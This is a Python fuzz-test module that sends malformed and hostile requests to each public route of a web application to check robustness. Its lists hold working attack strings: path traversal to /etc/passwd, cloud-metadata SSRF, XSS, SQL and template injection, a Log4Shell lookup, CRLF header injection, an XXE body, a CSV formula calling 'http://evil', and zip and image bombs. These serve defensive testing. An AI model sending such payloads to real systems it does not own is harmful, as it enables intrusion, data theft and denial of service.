"""Malformed and hostile inputs for every public route (tests/fault/test_hostile_inputs.py).

Values are text (query strings, form fields, path segments, headers), bodies (JSON, forms,
raw bytes with odd content types) and files. Each is what an attacker, a broken client or a
careless copy-paste sends: NUL, lone surrogates, right-to-left overrides, 10 000 characters,
numbers that are not numbers, path traversal, template and SQL syntax, header injection.
"""

import io
import json
import struct
import zlib
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

LONG = 10_000

# Text values: sent as query-string values, form fields, path segments and header values.
TEXTS: list[str] = [
    "", " ", "\t", "\n", "\r\n", "\x00", "a\x00b", "%00", "%", "%%", "%zz", "%u0041",
    "\x7f", "\x1b[31m", "\x08\x08", "\u0085", "\u2028", "\u2029", "\ufeff", "\ufffe", "\uffff",
    "\U0010ffff", "\U0001f600" * 50, "\u202egnp.exe", "\u202d\u202e", "\u200b" * 100,
    "\u200d\u200c", "e\u0301" * 500, "\u0300" * 1000, "ｓｑｉ／ｆｗ", "１２３４５", "٣٤٥",
    "〇一二", "上海" * 500, "A" * LONG, "9" * LONG, "-" * LONG, "/" * 2000, "%2F" * 1000,
    "../../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.png", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
    "javascript:alert(1)", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
    "{{7*7}}", "{% for x in range(9999999) %}{% endfor %}", "${jndi:ldap://x/a}", "#{7*7}",
    "' OR '1'='1", "1; DROP TABLE certificates; --", "\\", "'", '"', "`", "%s%s%s%n",
    "%(password)s", "{0.__class__}", "\r\nSet-Cookie: admin=1", "x\r\nLocation: http://evil",
    "-1", "0", "-0", "00000", "+1", "1e309", "-1e309", "NaN", "Infinity", "1.5", "0x7fffffff",
    "2147483648", "-2147483649", "9223372036854775808", "1" * 400, "2026-13-45", "0000-00-00",
    "9999-12-31", "true", "null", "[]", "{}", "[object Object]", "undefined", "None",
    "02722Q10234R3M", "02722q10234r3m ", "027-26-Q-10403-R0", "SQI/FW/2025/0003",
    "SQI%2FFW%2F2025%2F0003", "91310000MA1FL0000X", "TS-2026-000001", "TS—2026—000001",
    "ABCD-EFGH-JKMN", "a@b", "a" * 300 + "@example.com", "@", "x@[127.0.0.1]",
    "zh", "en", "zh_CN", "xx", "en-US;q=abc", "*", "?", "#", "&", "=", ";", "+", "[", "]",
    "a[]=1", "__proto__", "constructor", "\u0130stanbul", "ß" * 100, "ǅ", "\ud7ff",
]
# Lone surrogates cannot be encoded as UTF-8 at all: they arrive as their (invalid) UTF-8
# bytes, percent-encoded, or as JSON escapes.
RAW_QUERY_VALUES: list[str] = ["%ED%A0%80", "%C0%AF", "%FF%FE", "%E0%80%80", "%F4%90%80%80",
                               "%80", "%C3", "%00%00", "%25%30%30", "%2e%2e%2f" * 20]

QUERY_NAMES = ["q", "page", "per_page", "scheme", "status", "province", "number", "name",
               "lang", "year", "kind", "certificate_number", "reference", "url", "v", "size",
               "download", "format", "sort", "stage", "holder_name", "credit_code", "code",
               "text", "standard", "city", "next"]
FORM_NAMES = ["csrf_token", "kind", "about", "certificate_number", "name", "email", "phone",
              "subject", "description", "reference", "code", "text", "url", "holder_name",
              "password", "numbers", "confirm", "action"]
ODD_HOSTS = ["a" * 64 + ".example", "a..b", "a..b:8080"]
HEADERS = ["Accept-Language", "Cookie", "If-None-Match", "If-Modified-Since", "Referer",
           "User-Agent", "X-Forwarded-For", "Accept", "Range", "Origin"]


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (struct.pack(">I", len(body)) + kind + body
                + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(b"\x00" * 1000)) + chunk(b"IEND", b""))


def _zip_bomb() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<" * 2_000_000)
        archive.writestr("xl/worksheets/sheet1.xml",
                         '<worksheet><dimension ref="A1:XFD1048576"/></worksheet>')
    return out.getvalue()


# Files: sent in every file field of a multipart form (photo, attachments, register).
FILES: list[tuple[str, bytes]] = [
    ("empty.jpg", b""),
    ("bomb.png", _png(100_000, 100_000)),
    ("wide.png", _png(60_000, 1)),
    ("truncated.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 50),
    ("html.png", b"<!doctype html><script>alert(1)</script>"),
    ("svg.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ("zip.xlsx", _zip_bomb()),
    ("not-zip.xlsx", b"PK\x03\x04" + b"\x00" * 100),
    ("nul\x00name.csv", b"certificate_number\n02722Q10234R3M\n"),
    ("../../etc/passwd", b"root:x:0:0"),
    ("\u202egnp.exe", b"MZ\x90\x00"),
    ("a" * 1000 + ".pdf", b"%PDF-1.4\n%%EOF"),
    ("formula.csv", b"=HYPERLINK(\"http://evil\")\n+1\n-1\n@SUM(A1)\n"),
    ("utf16.csv", "certificate_number\n上海\n".encode("utf-16")),
    ("bad-utf8.csv", b"certificate_number\n\xff\xfe\xfd\n"),
    ("many-columns.csv", (",".join(["x"] * 20_000) + "\n").encode()),
    ("long-line.csv", b"A" * 2_000_000),
]


def _nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


# Raw bodies with a content type: sent to every route that takes POST.
BODIES: list[tuple[str, bytes]] = [
    ("application/json", _nested(100_000)),
    ("application/json", b'{"certificate_numbers": ' + _nested(5000) + b"}"),
    ("application/json", b'{"certificate_numbers": ["\\ud800", "\\u0000"]}'),
    ("application/json", b'{"items": [{"certificate_number": {"$ne": 1}}]}'),
    ("application/json", b'{"certificate_numbers": [' + b'"A",' * 5000 + b'"A"]}'),
    ("application/json", b"\xff\xfe{\x00}"),
    ("application/json", b"1e999999"),
    ("application/json", b'{"a": ' * 10_000),
    ("application/json", json.dumps({"certificate_numbers": ["x" * 100_000]}).encode()),
    ("application/x-www-form-urlencoded", b"a=%00&b=%ED%A0%80&" + b"c=1&" * 5000),
    ("application/x-www-form-urlencoded", b"%%%&&&===" * 1000),
    ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data\r\n\r\n--x--"),
    ("multipart/form-data; boundary=", b"garbage"),
    ("multipart/form-data", b"--\r\n\r\n"),
    ("text/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ("application/octet-stream", b"\x00" * 100_000),
    ("text/plain; charset=utf-7", b"+ADw-script+AD4-"),
    ("", b"\x00\x01\x02"),
]


@dataclass
class Probe:
    """One request: method, URL (already encoded), and what goes with it."""

    method: str
    url: str
    kind: str
    headers: dict[str, str] = field(default_factory=dict)
    data: Any = None
    content_type: str | None = None

    def describe(self) -> str:
        return f"{self.method} {self.url[:120]} [{self.kind}]"


def _path_with(rule: str, value: str) -> str:
    """Fill every `<converter:name>` of `rule` with `value` (percent-encoded)."""
    out, rest = "", rule
    while "<" in rest:
        head, _, tail = rest.partition("<")
        name, _, rest = tail.partition(">")
        encoded = quote(value, safe="") or "%20"
        out += head + ("1" if name.startswith("int") and not value else encoded)
    return out + rest


def probes_for(rule: str, methods: set[str], *, count: int = 300,
               offset: int = 0) -> list[Probe]:
    """Return `count` (or more) malformed requests for one route.

    Every body, file, raw encoding and method probe is always sent; the text probes (each
    value of TEXTS in the query string, parameter names, path, headers and form fields) fill
    the rest, spread evenly over the kinds and shifted by `offset`, so that the routes of a
    run share the whole list between them.
    """
    has_params = "<" in rule
    base = _path_with(rule, "02722Q10234R3M") if has_params else rule
    fixed: list[Probe] = []
    for raw in RAW_QUERY_VALUES:
        fixed.append(Probe("GET", f"{base}?" + "&".join(f"{n}={raw}" for n in QUERY_NAMES),
                           "raw query"))
        if has_params:
            fixed.append(Probe("GET", _path_with(rule, "RAWVALUE").replace("RAWVALUE", raw),
                               "raw path"))
    for content_type, body in BODIES:  # to GET-only routes too: 405, never a crash
        fixed.append(Probe("POST", base, "body", data=body, content_type=content_type))
    if "POST" in methods:
        for name, content in FILES:
            files = {field: (io.BytesIO(content), name)
                     for field in ("photo", "attachments", "file", "register")}
            fixed.append(Probe("POST", base, "file", data={**files, "kind": "complaint"},
                               content_type="multipart/form-data"))
    fixed.append(Probe("GET", base + "/" + "a/" * 2000, "overlong path"))
    fixed.append(Probe("GET", base + "%00", "path %00"))
    fixed.append(Probe("GET", base + "?" + "a=1&" * 5000, "5000 parameters"))
    for method in ("PUT", "DELETE", "PATCH", "TRACE", "PROPFIND"):
        fixed.append(Probe(method, base, "method"))
    for host in ODD_HOSTS:  # a Host that names no host: Werkzeug binds no URL map
        fixed.append(Probe("GET", base, "odd host", headers={"Host": host}))

    texts: list[Probe] = []
    for value in TEXTS:
        encoded = quote(value, safe="")
        query = "&".join(f"{name}={encoded}" for name in QUERY_NAMES)
        texts.append(Probe("GET", f"{base}?{query}", "query"))
        texts.append(Probe("GET", f"{base}?{encoded}={encoded}&{encoded}", "query names"))
        if has_params:
            texts.append(Probe("GET", _path_with(rule, value), "path"))
        header_value = value.encode("utf-8", "surrogateescape").decode("latin-1")
        header_value = header_value.replace("\r", "").replace("\n", "")
        texts.append(Probe("GET", base, "headers",
                           headers={name: header_value for name in HEADERS}))
        if "POST" in methods:
            texts.append(Probe("POST", base, "form",
                               data={name: value for name in FORM_NAMES}))
    wanted = max(count - len(fixed), 0)
    if wanted < len(texts):
        stride = len(texts) / wanted
        start = offset % max(int(stride), 1)
        texts = [texts[int(start + i * stride) % len(texts)] for i in range(wanted)]
    return fixed + texts
